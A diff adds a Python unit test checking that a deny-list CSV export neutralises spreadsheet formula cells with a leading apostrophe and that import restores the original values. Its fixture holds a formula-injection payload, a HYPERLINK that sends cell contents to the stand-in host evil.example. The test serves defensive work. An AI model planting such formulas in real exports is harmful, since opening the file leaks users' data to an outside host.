@@ -140,6 +140,32 @@ def test_export_can_be_imported_again() -> None:
     ]
 
 
+def test_a_csv_export_cannot_carry_a_spreadsheet_formula() -> None:
+    """A cell that a spreadsheet would run as a formula (=, +, -, @, TAB, CR first) is
+    exported with a leading apostrophe, and the import takes it off again."""
+
+    class E:
+        def __init__(self, **kw: object) -> None:
+            self.__dict__.update(kw)
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    entries = [
+        E(id="1", list="deny", kind="jti", value="-starts-with-dash", reason=formula,
+          created_by="@someone", created_at=1, expires_at=None),
+        E(id="2", list="deny", kind="client", value="+cmd", reason="'quoted already",
+          created_by="t", created_at=1, expires_at=None),
+    ]  # fmt: skip
+    exported = export_lists(entries, "csv").decode()
+    cells = [c for line in exported.splitlines()[1:] for c in line.split(",")]
+    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), exported
+    good, errors = parse_list_import(exported.encode(), "csv")
+    assert errors == []
+    assert [(g.value, g.reason) for g in good] == [
+        ("-starts-with-dash", formula),
+        ("+cmd", "'quoted already"),
+    ]
+
+
 def test_outcome_digest_depends_on_every_status() -> None:
     """The admin.bulk digest changes when any one item's status changes."""
     a, b = Outcomes(), Outcomes()
